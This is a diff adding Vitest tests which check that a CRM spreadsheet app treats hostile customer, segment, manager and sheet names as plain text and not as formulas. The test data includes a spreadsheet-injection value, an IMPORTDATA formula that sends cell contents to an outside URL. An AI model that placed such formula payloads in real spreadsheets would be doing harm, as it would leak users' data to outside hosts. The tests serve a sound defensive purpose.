@@ -1,9 +1,10 @@
 /** What a customer, a type or a manager is called in a CRM is shown as it is, and is never a formula, a number or a date. */
 import { expect, test } from 'vitest';
-import { openApp } from './support/app.ts';
+import { type App, get, openApp } from './support/app.ts';
+import { openTeam } from './support/board.ts';
 import { champion, type LogRow, lost } from './support/log.ts';
 import { build } from './support/run.ts';
-import { cellAt, columnOf, note, rowOf, sheet, type, values } from './support/tabs.ts';
+import { cellAt, columnOf, note, rowOf, sheet, sheetNames, type, values } from './support/tabs.ts';
 
 const NAMES = [
   '=IMPORTDATA("https://example.org/?"&A1)',
@@ -102,4 +103,67 @@ test('an added column may have a hostile title, and a tab a hostile name', async
   expect(columnOf(tab, '=1+1')).toBe(column);
   expect(values(tab)[rowOf(tab, 'Ann')]?.[column]).toBe("'=2+2");
   expect(app.log.read(cellAt(0, 5))[0]?.[0]?.value).toBe('Ann');
+});
+
+/** Formulas of a tab, and what they come to. */
+function formulasIn(app: App, id: number): string[] {
+  const tab = app.host.engine.sheet(id);
+  return tab === null
+    ? []
+    : tab
+        .formulas({ row: 0, column: 0, ...tab.used() })
+        .flat()
+        .filter((formula) => formula !== '');
+}
+
+test('segments may be called anything in the tab Settings', async () => {
+  const app = openApp({ rows: [...champion('Ann'), ...lost('Bob')] });
+  await get(app, 'createSettings');
+  const settings = sheet(app, 'Settings');
+  const names = ['=1+1', `🙂${'x'.repeat(48)}`, 'it\'s "A1":B2!', '{1}', "'"];
+  settings.write(
+    { row: 5, column: 1, rows: names.length, columns: 1 },
+    names.map((value) => [{ kind: 'text', value }]),
+  );
+  const lists = ['champions', 'loyal', 'potential-loyalists', 'promising', 'recent'];
+  for (let time = 0; time < 2; time++) await build(app, { ...app.settings, lists });
+  expect(sheetNames(app).filter((name) => name.startsWith('Call list'))).toEqual(
+    names.map((name) => `Call list – ${name}`),
+  );
+  expect(values(sheet(app, 'Customers')).find(([name]) => name === 'Ann')).toContain('=1+1');
+  for (const { id, name } of app.host.engine.sheets()) {
+    if (name !== 'Data problems') expect(formulasIn(app, id)).toEqual([]);
+  }
+});
+
+test('managers, and the sheet of the log, may be called anything in the tabs of pay', async () => {
+  const names = [...NAMES.filter((name) => name !== '—').slice(0, 21), `a${'🙂'.repeat(40)}`];
+  const october = 46_296;
+  const rows = names.map((name, index): LogRow => ['Acme', october + 1, 1000 * (index + 1), name]);
+  const members = names.map((name) => ({ name, plan: 5000 }));
+  const app = await openTeam({ rows, members, today: '2026-11-02', month: '2026-10' });
+  app.log.rename(`it's "A1":B2! 'Заказы'`);
+  const month = { month: '2026-10' };
+  await get(app, 'buildSimulator');
+  await get(app, 'buildBoard', month);
+  await get(app, 'buildPayout', month);
+  await get(app, 'startWeek', { goal: 10, prizes: [5], rollOver: false });
+  await get(app, 'buildThanks');
+  const shown = names.filter((_, index) => index % 4 === 0 || index > 19);
+  for (const name of shown) await get(app, 'buildStatement', { ...month, member: name });
+  await get(app, 'closeMonth', month);
+  await app.host.engine.settled();
+  for (const tab of app.host.engine.sheets()) {
+    const broken = values(tab)
+      .flat()
+      .filter((value) => /^#(NAME|REF|VALUE|ERROR|N\/A|DIV)/.test(String(value)));
+    expect(broken, tab.name).toEqual([]);
+    const formulas = formulasIn(app, tab.id);
+    expect(formulas.filter((formula) => names.some((name) => name.length > 2 && formula.startsWith(name)))).toEqual([]);
+  }
+  const paid = values(sheet(app, 'Payouts — October 2026')).map(([name]) => name);
+  expect(paid).toEqual(expect.arrayContaining(names));
+  const statements = sheetNames(app).filter((name) => name.startsWith('Statement'));
+  expect(statements).toHaveLength(shown.length);
+  expect(statements.filter((name) => /[\uD800-\uDBFF](?![\uDC00-\uDFFF])/.test(name))).toEqual([]);
 });
